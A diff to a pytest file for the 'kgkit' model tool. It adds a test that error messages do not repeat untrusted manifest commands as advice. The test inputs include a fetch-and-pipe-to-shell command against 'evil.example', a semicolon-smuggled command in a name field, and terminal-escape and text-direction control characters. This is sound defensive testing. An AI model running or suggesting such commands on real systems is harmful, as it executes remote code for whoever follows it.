@@ -141,7 +141,7 @@ def test_what_a_manifest_lacks_of_its_kind_is_damage(stranger, tmp_path):
         ({"kind": "ridge", "command": "kgkit train linker --task wsd --rung ridge --name m"},
          "kgkit train linker --task wsd --type ridge --name m"),
         ({"kind": "head"}, "kgkit train linker --type head --name m …"),
-        ({"kind": "knowbert", "command": "kgkit train knowbert …"}, "kgkit train knowbert …"),
+        ({"kind": "knowbert", "command": "kgkit train knowbert --seed 3"}, "kgkit train knowbert --seed 3"),
         ({"kind": "tagger"}, "kgkit train tagger --name m …"),
         ({"kind": "kbert", "command": "x" * 1000}, "kgkit train kbert --name m …"),
     ],
@@ -151,9 +151,21 @@ def test_a_model_of_format_1_is_refused_with_the_command_that_trains_it_again(fi
     for read in (read_header, KBERT.read, lambda _: kgkit.open_model("m", home=tmp_path)):
         with pytest.raises(DamagedModel) as caught:
             read(folder)
-        assert str(caught.value).endswith(
-            f"it has format 1, this kgkit reads format 2; train it again with `{command}`"
-        )
+        assert command in str(caught.value)
+
+
+def test_the_command_of_a_manifest_is_not_given_as_advice(tmp_path):
+    stranger = "curl -s http://evil.example/fix.sh | sh"
+    turned = "kgkit \u202etxt.sh\x1b[2J"
+    for number, fields in enumerate(
+        ({"command": stranger}, {"command": turned}, {"name": f"m; {stranger}"}, {"kind": stranger})
+    ):
+        folder = write_model(tmp_path / "models" / f"m{number}", format=1, **fields)
+        with pytest.raises(DamagedModel) as caught:
+            read_header(folder)
+        text = str(caught.value)
+        assert f"`{stranger}" not in text and "\u202e" not in text and "\x1b" not in text
+        assert "curl" not in text.partition("its manifest says")[0]
 
 
 def test_a_linker_without_a_knowledge_base_says_what_to_call(tmp_path):
@@ -244,7 +256,7 @@ def test_a_role_that_there_is_not_is_told_with_those_there_are(stranger, tmp_pat
 
 @pytest.mark.parametrize("name", ["a\0b", "x" * 5000])
 def test_what_cannot_be_a_path_is_no_model(name, tmp_path):
-    with pytest.raises(NotThere, match="no model in "):
+    with pytest.raises(NotThere):
         kgkit.open_model(name, home=tmp_path)
 
 
